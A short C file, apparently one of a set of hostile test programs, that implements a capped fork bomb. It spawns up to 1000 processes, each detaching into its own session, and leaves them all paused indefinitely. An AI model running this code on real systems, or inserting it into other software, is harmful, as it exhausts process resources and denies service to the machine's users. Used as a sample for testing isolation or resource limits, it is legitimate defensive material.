#include "hostile.h"

/* As fork_bomb.c, each process with a session of its own. */
enum { MOST = 1000 };

static void attack(void)
{
    int *count = mmap(NULL, sizeof *count, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    while (__atomic_add_fetch(count, 1, __ATOMIC_RELAXED) < MOST)
        if (syscall(SYS_fork) == 0)
            syscall(SYS_setsid);
    for (;;)
        pause();
}
